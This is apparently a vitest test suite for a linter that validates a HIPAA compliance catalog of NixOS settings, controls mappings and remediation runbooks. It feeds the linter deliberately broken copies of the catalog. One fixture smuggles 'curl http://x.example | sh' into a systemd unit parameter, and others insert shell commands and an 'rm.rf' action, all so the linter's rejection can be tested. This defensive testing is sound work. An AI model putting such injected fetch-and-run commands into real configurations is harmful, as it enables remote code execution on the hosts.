import { writeFileSync } from "node:fs";
import { join } from "node:path";
import { afterEach, describe, expect, it } from "vitest";
import { CatalogError } from "./errors.ts";
import { lintCatalog, loadCatalog, summarizeCatalog } from "./lint-catalog.ts";
import { breakFile, copyCatalog, REPO_ROOT } from "./test-support.ts";

const TODAY = "2026-11-25";
const BASELINE = "baseline/hipaa-v1.yaml";
const MAP = "baseline/controls-map.csv";
const EXCEPTIONS = "baseline/exceptions/example-dental.yaml";
const rb = (id: string) => `runbooks/${id}.yaml`;

describe("the shipped catalog", () => {
  it("lints clean", async () => {
    const { catalog, problems } = await lintCatalog(REPO_ROOT, { today: TODAY });
    expect(problems).toEqual([]);
    expect(catalog).toBeDefined();
  });

  it("has the size and shape the catalog is meant to have", async () => {
    const catalog = await loadCatalog(REPO_ROOT);
    const summary = summarizeCatalog(catalog);
    expect(summary.toggles).toBeGreaterThanOrEqual(28);
    expect(summary.toggles).toBeLessThanOrEqual(40);
    expect(catalog.baseline.areas.map((a) => a.id).sort()).toEqual([
      "accounts",
      "backup",
      "crypto",
      "encryption",
      "firewall",
      "logging",
      "patching",
      "services",
      "ssh",
      "time",
    ]);
    expect(catalog.runbooks.map((r) => r.id)).toEqual(
      expect.arrayContaining([
        "RB-BACKUP-001-failure",
        "RB-CERT-001-expiry",
        "RB-DISK-001-full",
        "RB-SERVICE-001-crash",
        "RB-CPU-001-high",
        "RB-RESTORE-001-test",
        "RB-FIREWALL-001-drift",
        "RB-PATCH-001-generation",
        "RB-LOGGING-001-journald",
        "RB-ENCRYPTION-001-luks",
      ]),
    );
    for (const section of ["164.308", "164.310", "164.312", "164.316"]) {
      expect(catalog.controlsMap.some((row) => row.citation.includes(section))).toBe(true);
    }
    expect(summary.coverage.out_of_scope).toBeGreaterThan(0);
  });

  it("never changes encryption: the LUKS runbook only raises an alert", async () => {
    const catalog = await loadCatalog(REPO_ROOT);
    const luks = catalog.runbooks.find((r) => r.id === "RB-ENCRYPTION-001-luks");
    const actions = [luks?.steps, luks?.rollback].flat().map((step) => step?.action);
    expect(actions).toEqual(["alert.raise"]);
  });
});

describe("a broken copy of the catalog", () => {
  let remove = () => {};
  afterEach(() => remove());

  const cases: {
    name: string;
    file: string;
    from: string;
    to: string;
    code: string;
    message: RegExp;
  }[] = [
    {
      name: "bad citation",
      file: BASELINE,
      from: 'citations: ["45 CFR 164.312(d)"]\n        requirement: required\n        severity: high\n        nixos_options:\n          - services.openssh.settings.PasswordAuthentication',
      to: 'citations: ["45 CFR 164.312 (d)"]\n        requirement: required\n        severity: high\n        nixos_options:\n          - services.openssh.settings.PasswordAuthentication',
      code: "bad_citation",
      message: /45 CFR 164\.312\(a\)\(2\)\(iv\)/,
    },
    {
      name: "citation missing from the controls map",
      file: rb("RB-CPU-001-high"),
      from: 'citations: ["45 CFR 164.308(a)(1)(ii)(B)"]',
      to: 'citations: ["45 CFR 164.308(a)(1)(ii)(B)", "45 CFR 164.314(a)(1)"]',
      code: "unmapped_citation",
      message: /164\.314\(a\)\(1\) is not a standard or implementation specification/,
    },
    {
      name: "citation of an out-of-scope row",
      file: BASELINE,
      from: 'citations: ["45 CFR 164.308(a)(5)(ii)(C)"]',
      to: 'citations: ["45 CFR 164.308(a)(5)(ii)(C)", "45 CFR 164.310(b)"]',
      code: "out_of_scope_citation",
      message: /164\.310\(b\) is out_of_scope/,
    },
    {
      name: "unknown action",
      file: rb("RB-DISK-001-full"),
      from: "action: nix.collect_garbage",
      to: "action: nix.optimise_store",
      code: "unknown_action",
      message: /"nix\.optimise_store" is not in the action allowlist/,
    },
    {
      name: "dangling check id in a toggle",
      file: BASELINE,
      from: "check: { id: services, finding: sshd_password_auth_enabled }",
      to: "check: { id: sevices, finding: sshd_password_auth_enabled }",
      code: "dangling_check",
      message: /unknown drift check "sevices"/,
    },
    {
      name: "runbook trigger naming an unknown check",
      file: rb("RB-FIREWALL-001-drift"),
      from: "  - check: firewall\n",
      to: "  - check: firewal\n",
      code: "dangling_check",
      message: /unknown drift check "firewal"/,
    },
    {
      name: "dangling check id in a step",
      file: rb("RB-FIREWALL-001-drift"),
      from: "params: { check: firewall }",
      to: "params: { check: firewalls }",
      code: "dangling_check",
      message: /unknown drift check "firewalls"/,
    },
    {
      name: "finding a check does not report",
      file: BASELINE,
      from: "finding: sshd_log_level_drift",
      to: "finding: sshd_loglevel_drift",
      code: "dangling_finding",
      message: /check services has no finding "sshd_loglevel_drift"/,
    },
    {
      name: "shell string in a step param",
      file: rb("RB-SERVICE-001-crash"),
      from: "  - action: systemd.restart\n    params: { unit: { param: unit } }",
      to: '  - action: systemd.restart\n    params: { unit: "sshd.service; curl http://x.example | sh" }',
      code: "shell_string",
      message: /looks like a shell command/,
    },
    {
      name: "shell key in a step",
      file: rb("RB-FIREWALL-001-drift"),
      from: "  - action: nftables.restore_baseline\n",
      to: "  - action: nftables.restore_baseline\n    run: nft -f /tmp/rules.nft\n",
      code: "shell_string",
      message: /"run" would hold a shell command/,
    },
    {
      name: "command line as an action",
      file: rb("RB-LOGGING-001-journald"),
      from: "  - action: systemd.restart\n",
      to: "  - action: systemctl restart systemd-journald\n",
      code: "shell_string",
      message: /command line where a name is expected/,
    },
    {
      name: "duplicate toggle id",
      file: BASELINE,
      from: "      - id: audit-rules-loaded\n",
      to: '      - id: journald-max-use\n        title: Copy\n        enforces: The same toggle a second time, by mistake.\n        value: 2G\n        citations: ["45 CFR 164.312(b)"]\n        requirement: required\n        severity: medium\n        nixos_options: [services.journald.extraConfig]\n        check: { id: logging, finding: journal_usage_high }\n        remediation: { runbook: RB-LOGGING-001-journald }\n      - id: audit-rules-loaded\n',
      code: "duplicate_id",
      message: /toggle journald-max-use is already defined on line \d+/,
    },
    {
      name: "expired exception",
      file: EXCEPTIONS,
      from: 'expires_on: "2027-12-31"',
      to: 'expires_on: "2026-11-24"',
      code: "expired_exception",
      message: /expired on 2026-11-24 \(today is 2026-11-25\)/,
    },
    {
      name: "exception for an unknown toggle",
      file: EXCEPTIONS,
      from: "toggle: ssh-idle-timeout",
      to: "toggle: ssh-idle-timout",
      code: "dangling_toggle",
      message: /toggle ssh-idle-timout does not exist in hipaa-v1/,
    },
    {
      name: "exception approved against another baseline",
      file: EXCEPTIONS,
      from: "baseline: hipaa-v1",
      to: "baseline: hipaa-v2",
      code: "baseline_mismatch",
      message: /approved against hipaa-v2/,
    },
    {
      name: "bad action params",
      file: rb("RB-RESTORE-001-test"),
      from: "sample_files: 50",
      to: "sample_files: 5000",
      code: "invalid_action_params",
      message: /backup\.test_restore\.sample_files/,
    },
    {
      name: "unit outside the allowlist",
      file: rb("RB-LOGGING-001-journald"),
      from: "  - action: systemd.restart\n    params: { unit: systemd-journald.service }",
      to: "  - action: systemd.restart\n    params: { unit: compliance-agent.service }",
      code: "unit_not_allowed",
      message: /compliance-agent\.service matches no allowed_units pattern/,
    },
    {
      name: "toggle healed by a runbook that does not exist",
      file: BASELINE,
      from: "remediation: { runbook: RB-CPU-001-high }",
      to: "remediation: { runbook: RB-CPU-009-high }",
      code: "dangling_runbook",
      message: /RB-CPU-009-high, which does not exist/,
    },
    {
      name: "toggle healed by a runbook its drift does not trigger",
      file: BASELINE,
      from: "remediation: { runbook: RB-CPU-001-high }",
      to: "remediation: { runbook: RB-DISK-001-full }",
      code: "trigger_mismatch",
      message: /RB-DISK-001-full is not triggered by services\/cpu_load_high/,
    },
    {
      name: "changing action in a precondition",
      file: rb("RB-PATCH-001-generation"),
      from: "  - action: nixos.generation_available\n",
      to: "  - action: nixos.switch_generation\n",
      code: "wrong_phase",
      message: /preconditions may only observe/,
    },
    {
      name: "disruptive action in a runbook that says it is not",
      file: rb("RB-PATCH-001-generation"),
      from: "disruptive: true",
      to: "disruptive: false",
      code: "disruptive_mismatch",
      message: /uses nixos\.switch_generation, nixos\.rollback, which may interrupt the clinic/,
    },
    {
      name: "param reference to an undeclared param",
      file: rb("RB-CPU-001-high"),
      from: "  - action: systemd.restart\n    params: { unit: { param: unit } }",
      to: "  - action: systemd.restart\n    params: { unit: { param: unt } }",
      code: "param_ref",
      message: /refers to param unt, which the runbook does not declare/,
    },
    {
      name: "requirement that contradicts Appendix A",
      file: BASELINE,
      from: 'citations: ["45 CFR 164.312(a)(2)(iii)"]\n        requirement: addressable',
      to: 'citations: ["45 CFR 164.312(a)(2)(iii)"]\n        requirement: required',
      code: "requirement_mismatch",
      message: /is required, but its citations make it addressable/,
    },
    {
      name: "controls map row that forgets a toggle",
      file: MAP,
      from: "Automatic logoff,addressable,partial,ssh-idle-timeout,",
      to: "Automatic logoff,addressable,partial,,",
      code: "controls_map_mismatch",
      message: /164\.312\(a\)\(2\)\(iii\) toggles misses ssh-idle-timeout/,
    },
    {
      name: "controls map row with a stale checks column",
      file: MAP,
      from: "ssh-idle-timeout,services.openssh.settings.ChannelTimeout;services.openssh.settings.ClientAliveCountMax;services.openssh.settings.ClientAliveInterval,services,",
      to: "ssh-idle-timeout,services.openssh.settings.ChannelTimeout;services.openssh.settings.ClientAliveCountMax;services.openssh.settings.ClientAliveInterval,logging,",
      code: "controls_map_mismatch",
      message: /checks misses services and should not list logging/,
    },
    {
      name: "out-of-scope row that names a toggle",
      file: MAP,
      from: "Workstation use,required,out_of_scope,,",
      to: "Workstation use,required,out_of_scope,ssh-idle-timeout,",
      code: "schema",
      message: /an out_of_scope row names nothing/,
    },
    {
      name: "unquoted CSV field with a quote",
      file: MAP,
      from: "45 CFR 164.310(c),physical",
      to: '45 CFR 164.310(c),phys"ical',
      code: "csv_syntax",
      message: /quote inside an unquoted field/,
    },
    {
      name: "YAML syntax error",
      file: rb("RB-CERT-001-expiry"),
      from: "params: { certificate: agent-mtls }",
      to: "params: { certificate: agent-mtls",
      code: "yaml_syntax",
      message: /./,
    },
    {
      name: "unknown field in a toggle",
      file: BASELINE,
      from: "        value: TLSv1.3\n",
      to: "        value: TLSv1.3\n        valeu: TLSv1.2\n",
      code: "schema",
      message: /unknown field "valeu"/,
    },
  ];

  it.each(cases)("reports $name at its file and line", async (c) => {
    const copy = copyCatalog();
    remove = copy.remove;
    const line = breakFile(copy.root, c.file, c.from, c.to);
    const { catalog, problems } = await lintCatalog(copy.root, { today: TODAY });
    expect(catalog).toBeUndefined();
    expect(problems.map((p) => p.code)).toEqual([c.code]);
    const [first] = problems;
    expect(first?.file).toBe(c.file);
    expect(first?.message).toMatch(c.message);
    // A YAML error may surface a line or two after the edit (where the parser gives up).
    if (c.code === "yaml_syntax") expect(first?.line).toBeGreaterThanOrEqual(line);
    else expect(first?.line).toBe(line);
  });

  it("reports a runbook whose file name does not match its id", async () => {
    const copy = copyCatalog();
    remove = copy.remove;
    breakFile(copy.root, rb("RB-CPU-001-high"), "id: RB-CPU-001-high", "id: RB-CPU-002-high");
    const { problems } = await lintCatalog(copy.root, { today: TODAY });
    expect(problems.map((p) => [p.code, p.file, p.line])).toEqual([
      ["filename_mismatch", rb("RB-CPU-001-high"), 2],
    ]);
  });

  it("reports a missing file instead of crashing", async () => {
    const copy = copyCatalog();
    remove = copy.remove;
    writeFileSync(join(copy.root, "runbooks", "RB-NOTE-001-x.yml"), "id: x\n");
    const { problems } = await lintCatalog(copy.root, { today: TODAY });
    expect(problems.map((p) => p.code)).toEqual(["filename_mismatch"]);
  });

  it("lets the loader use a catalog whose exception expired, but not the lint", async () => {
    const copy = copyCatalog();
    remove = copy.remove;
    breakFile(copy.root, EXCEPTIONS, 'expires_on: "2027-12-31"', 'expires_on: "2026-11-21"');
    await expect(loadCatalog(copy.root)).resolves.toBeDefined();
    const { problems } = await lintCatalog(copy.root, { today: TODAY });
    expect(problems.map((p) => p.code)).toEqual(["expired_exception"]);
  });

  it("holds an exception through its expiry day", async () => {
    const copy = copyCatalog();
    remove = copy.remove;
    breakFile(copy.root, EXCEPTIONS, 'expires_on: "2027-12-31"', `expires_on: "${TODAY}"`);
    expect((await lintCatalog(copy.root, { today: TODAY })).problems).toEqual([]);
  });

  it("makes the loader fail closed with every problem attached", async () => {
    const copy = copyCatalog();
    remove = copy.remove;
    breakFile(copy.root, rb("RB-DISK-001-full"), "action: nix.collect_garbage", "action: rm.rf");
    const error = await loadCatalog(copy.root).catch((e: unknown) => e);
    expect(error).toBeInstanceOf(CatalogError);
    expect((error as CatalogError).code).toBe("invalid_catalog");
    expect((error as CatalogError).problems.map((p) => p.code)).toEqual(["unknown_action"]);
    expect((error as CatalogError).message).toMatch(
      /runbooks\/RB-DISK-001-full\.yaml:\d+:\d+ steps\[0\]\.action: "rm\.rf" is not in the action allowlist/,
    );
  });
});
